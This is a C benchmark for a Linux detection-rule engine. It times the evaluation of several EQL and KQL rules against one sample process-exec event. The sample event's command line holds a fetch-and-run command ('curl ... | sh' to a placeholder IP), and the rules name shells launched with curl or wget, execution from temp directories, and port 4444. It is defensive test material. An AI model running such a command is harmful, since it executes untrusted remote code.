/*
 * bench_eval — eval_pred on typical Linux detection-rule predicates against one exec event
 * (hot cache; CPU time, so a busy machine disturbs it less). Prints
 * "BENCH eval_pred_<name> <ns> ns/event" lines; an argument selects rules by name.
 * Build: cc -O2 -D_GNU_SOURCE -Iuserspace tests/bench/bench_eval.c build/libvigil.a
 *        -lbpf -lelf -lz -lcjson -lm
 */
#include <stdio.h>
#include <string.h>
#include <time.h>

#include "eval/eval.h"

static const char *const event_json =
    "{\"@timestamp\":\"2024-05-01T10:00:00.123456789Z\",\"event\":{\"category\":[\"process\"],"
    "\"type\":[\"start\"],\"action\":\"exec\",\"kind\":\"event\"},\"host\":{\"os\":{\"type\":"
    "\"linux\"},\"id\":\"4b1c0d\",\"name\":\"build-7\"},\"process\":{\"name\":\"bash\","
    "\"executable\":\"/usr/bin/bash\",\"args\":[\"bash\",\"-c\",\"curl -s http://192.0.2.1/x | sh\"],"
    "\"args_count\":3,\"command_line\":\"bash -c curl -s http://192.0.2.1/x | sh\",\"pid\":4242,"
    "\"entity_id\":\"abc\",\"working_directory\":\"/home/ci\",\"parent\":{\"name\":\"make\","
    "\"executable\":\"/usr/bin/make\",\"pid\":4200,\"args\":[\"make\",\"all\"],\"entity_id\":\"p\"}},"
    "\"user\":{\"id\":\"1000\",\"name\":\"ci\"}}";

static const struct {
    const char *name, *lang, *query;
} rules[] = {
    {"eql_exec_shell", "eql",
     "process where host.os.type == \"linux\" and event.type == \"start\" and "
     "event.action in (\"exec\", \"exec_event\") and process.name : (\"bash\", \"sh\", \"zsh\", "
     "\"dash\") and process.args : (\"-c\", \"*curl*\", \"*wget*\") and not "
     "process.parent.name in (\"sshd\", \"cron\", \"systemd\")"},
    {"eql_miss_category", "eql",
     "network where host.os.type == \"linux\" and destination.port == 4444"},
    {"eql_wildcards", "eql",
     "process where host.os.type == \"linux\" and event.type == \"start\" and "
     "process.executable : (\"/tmp/*\", \"/var/tmp/*\", \"/dev/shm/*\", \"/run/user/*\") and "
     "not process.parent.executable : (\"/usr/lib/*\", \"/opt/*\")"},
    {"eql_regex", "eql",
     "process where process.command_line regex \".*[0-9]{1,3}(\\\\.[0-9]{1,3}){3}.*\""},
    {"kql_exec", "kuery",
     "host.os.type:linux and event.type:start and event.action:(exec or exec_event) and "
     "process.name:(bash or sh or python*) and not user.name:root"},
};

static double now_ns(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &ts); /* CPU time: robust to a busy machine */
    return ts.tv_sec * 1e9 + ts.tv_nsec;
}

int main(int argc, char **argv)
{
    struct fieldtab *ft = fieldtab_new();
    struct event ev;
    event_init(&ev, ft);
    char err[256];
    if (event_from_json(&ev, event_json, strlen(event_json), err, sizeof err)) {
        fprintf(stderr, "bench_eval: %s\n", err);
        return 1;
    }
    for (size_t r = 0; r < sizeof rules / sizeof rules[0]; r++) {
        if (argc > 1 && !strstr(rules[r].name, argv[1]))
            continue;
        struct lang_error le;
        struct ir_query *q = lang_compile(lang_from_name(rules[r].lang), rules[r].query,
                                          strlen(rules[r].query), ft, &le);
        if (!q || eval_prepare(q, &le)) {
            fprintf(stderr, "bench_eval: %s: %s\n", rules[r].name, le.msg);
            return 1;
        }
        const long iters = 2000000;
        volatile int hits = 0;
        double t0 = now_ns();
        for (long i = 0; i < iters; i++)
            hits += eval_pred(q, q->stages[0].cond, &ev) == TRI_TRUE;
        double t1 = now_ns();
        printf("BENCH eval_pred_%s %.1f ns/event (%s)\n", rules[r].name, (t1 - t0) / iters,
               hits ? "match" : "no match");
        ir_query_free(q);
    }
    event_clear(&ev);
    fieldtab_free(ft);
    return 0;
}
